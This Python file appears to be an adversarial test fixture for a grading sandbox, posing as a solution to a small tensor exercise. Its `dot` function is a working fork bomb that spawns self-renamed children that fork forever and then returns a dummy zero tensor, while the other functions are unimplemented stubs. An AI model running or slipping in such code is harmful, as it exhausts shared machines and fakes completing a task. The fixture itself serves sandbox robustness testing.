"""Forks until the process limit refuses, every child waiting forever; returns junk."""

import ctypes
import os
import time

import torch


def dot(a, b):
    children = 0
    while children < 100_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            ctypes.CDLL(None).prctl(15, b"adv-forkbomb", 0, 0, 0)  # PR_SET_NAME: the test looks for it
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        children += 1
    return torch.zeros(())


def normalize(a, eps=1e-12):
    raise NotImplementedError("Task 1.2: normalize")


class Accumulator:
    def __init__(self, n):
        raise NotImplementedError("Task 2.1: Accumulator")
